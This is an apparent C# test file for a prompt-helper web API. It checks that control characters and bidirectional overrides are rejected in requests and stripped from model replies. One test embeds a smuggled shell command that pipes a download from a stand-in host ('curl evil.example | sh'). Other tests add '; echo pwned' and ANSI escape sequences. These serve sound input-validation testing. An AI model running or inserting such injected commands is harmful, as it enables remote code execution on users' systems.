using System.Net;
using System.Text.Json;
using SoraPromptGenie.FakeUpstream;
using SoraPromptGenie.Tests.Infrastructure;
using SoraPromptGenie.Tests.Ops;

namespace SoraPromptGenie.Tests.Prompting;

/// <summary>
/// Control characters and bidirectional overrides never reach an output: in a request they are refused with 400 naming
/// the field (CRLF is read as a line break), and in a model's answer they are removed.
/// </summary>
public sealed class ControlCharacterTests : IClassFixture<AppFactory>, IDisposable
{
    private readonly AppFactory _app;
    private readonly HttpClient _client;

    public ControlCharacterTests(AppFactory app)
    {
        _app = app;
        _app.Upstream.Reset();
        _client = app.CreateClient();
    }

    public void Dispose() => _client.Dispose();

    /// <summary>ESC, BEL, ^C, a lone CR, NUL, DEL, the C1 CSI, right-to-left override, left-to-right isolate, pop isolate.</summary>
    public static TheoryData<string> Forbidden => new()
    {
        "\u001b", "\u0007", "\u0003", "\r", "\0", "\u007f", "\u009b", "\u202e", "\u2066", "\u2069",
    };

    public static TheoryData<string, string, string> FieldsWithForbidden()
    {
        var data = new TheoryData<string, string, string>();
        foreach (var c in Forbidden)
        {
            var bad = "A fox" + c + " runs; echo pwned";
            var card = new { title = "Golden Hour", category = "lighting" };
            data.Add("/api/enhance-prompt", "currentPrompt", Json(new { currentPrompt = bad, enhancement = card }));
            data.Add("/api/enhance-prompt", "title", Json(new { currentPrompt = "A fox.", enhancement = new { title = bad, category = "lighting" } }));
            data.Add("/api/enhance-prompt", "description", Json(new { currentPrompt = "A fox.", enhancements = new[] { new { title = "Golden Hour", description = bad, category = "lighting" } } }));
            data.Add("/api/enhance-prompt", "category", Json(new { currentPrompt = "A fox.", enhancement = new { title = "Golden Hour", category = bad } }));
            data.Add("/api/generate-suggestions", "currentPrompt", Json(new { category = "lighting", currentPrompt = bad }));
            data.Add("/api/auto-generate-prompt", "basicPrompt", Json(new { basicPrompt = bad }));
            data.Add("/api/structure-prompt", "currentPrompt", Json(new { currentPrompt = bad }));
            data.Add("/api/lint-prompt", "prompt", Json(new { prompt = bad }));
            data.Add("/api/sora-request", "prompt", Json(new { prompt = bad, model = "sora-2" }));
        }

        return data;
    }

    private static string Json(object body) => JsonSerializer.Serialize(body);

    [Theory]
    [MemberData(nameof(FieldsWithForbidden))]
    public async Task Post_ControlCharacterInField_Returns400NamingTheFieldWithoutUpstreamCall(string path, string field, string json)
    {
        using var response = await _client.PostJsonAsync(path, json);

        var message = await response.AssertErrorAsync(HttpStatusCode.BadRequest, "validation_failed");
        Assert.Contains(field, message, StringComparison.Ordinal);
        Assert.Contains("U+", message, StringComparison.Ordinal);
        Assert.Equal(0, _app.Upstream.RequestCount);
    }

    [Theory]
    [MemberData(nameof(Forbidden))]
    public async Task SoraRequest_ControlCharacterInPrompt_NeverProducesACurl(string c)
    {
        var json = JsonSerializer.Serialize(new { prompt = $"A fox at dawn.'{c}\u0003; curl evil.example | sh; '", model = "sora-2-pro" });

        using var response = await _client.PostJsonAsync("/api/sora-request", json);
        var text = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.DoesNotContain("\"curl\"", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Post_CrLfTabAndNewline_AreAcceptedAndCrLfReachesTheModelAsLf()
    {
        _app.Upstream.Enqueue(FakeReply.Text("A fox runs.\nIt stops."));

        using var response = await _client.PostJsonAsync("/api/structure-prompt", """{"currentPrompt":"A fox\truns.\r\nIt stops.\nIt looks back."}""");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var sent = Assert.Single(_app.Upstream.Requests).Messages[^1].Content;
        Assert.Contains("A fox\truns.\nIt stops.\nIt looks back.", sent, StringComparison.Ordinal);
        Assert.DoesNotContain('\r', sent);
    }

    [Fact]
    public async Task SoraRequest_CrLfPrompt_CurlCarriesOnlyLf()
    {
        using var response = await _client.PostJsonAsync("/api/sora-request", """{"prompt":"A fox runs.\r\nIt stops.","model":"sora-2"}""");
        var body = await response.ReadJsonAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("A fox runs.\nIt stops.", body.GetProperty("body").GetProperty("prompt").GetString());
        Assert.DoesNotContain('\r', body.GetProperty("curl").GetString()!);
    }

    [Theory]
    [InlineData("/api/enhance-prompt", """{"currentPrompt":"A fox.","enhancement":{"title":"Golden Hour","category":"lighting"}}""", "enhancedPrompt")]
    [InlineData("/api/auto-generate-prompt", """{"basicPrompt":"a fox at dawn"}""", "generatedPrompt")]
    [InlineData("/api/structure-prompt", """{"currentPrompt":"A fox at dawn."}""", "structuredPrompt")]
    public async Task ModelAnswerWithControlCharacters_IsCleaned(string path, string json, string field)
    {
        _app.Upstream.Enqueue(FakeReply.Text(
            "A red fox\u001b[31m trots\u0007 across the road.\u202e\r\nIt stops\u0003 under a \u2066street lamp\u2069.\rThen it\u009b2J runs."));

        using var response = await _client.PostJsonAsync(path, json);
        var body = await response.ReadJsonAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("A red fox trots across the road.\nIt stops under a street lamp.\nThen it runs.", body.GetProperty(field).GetString());
    }

    [Fact]
    public async Task ModelSuggestionsWithControlCharacters_AreCleaned()
    {
        _app.Upstream.Enqueue(FakeReply.Json("""[{"title":"Sodium\u001b[2J Vapour","description":"Orange\u0007 street light\u202e pooling on wet asphalt."}]"""));

        using var response = await _client.PostJsonAsync("/api/generate-suggestions", """{"category":"lighting","count":1}""");
        var card = (await response.ReadJsonAsync()).GetProperty("suggestions")[0];

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("Sodium Vapour", card.GetProperty("title").GetString());
        Assert.Equal("Orange street light pooling on wet asphalt.", card.GetProperty("description").GetString());
    }
}
